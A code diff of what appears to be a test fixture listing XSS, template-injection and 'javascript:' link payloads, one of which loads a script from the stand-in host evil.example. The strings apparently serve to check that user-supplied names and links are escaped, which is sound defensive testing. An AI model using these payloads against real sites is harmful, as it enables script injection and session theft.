@@ -3,7 +3,7 @@
  * that parsers disagree on, templates of other systems, and letters that confuse. Each would set `__x` or open a dialog if
  * any part of it ran. All are single lines of at most 80 characters, so that they fit every name.
  */
-const written = [
+export const payloads: readonly string[] = [
   '<script>__x=1</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '"><script>__x=1</script>',
@@ -120,11 +120,13 @@ const written = [
   '\\";__x=1;//',
   '</script>";__x=1//',
   '`${__x=1}`',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of others, not of ours
   '${__x=1}',
   '#{__x=1}',
   '{{constructor.constructor("__x=1")()}}',
   '{{7*7}}',
   '<%= __x=1 %>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: see above
   '[[${__x=1}]]',
   '{count, plural, one {#} other {#}}',
   "{name}'{name}",
@@ -170,9 +172,7 @@ const written = [
   'שלום <script>__x=1</script> עולם',
 ]
 
-export const payloads: readonly string[] = written
-
-/** Addresses that must never become a link. */
+/** What must never lead anywhere else than it reads, or do anything but lead. */
 export const deadLinks: readonly string[] = [
   'javascript:alert(1)',
   'JAVASCRIPT:alert(1)',
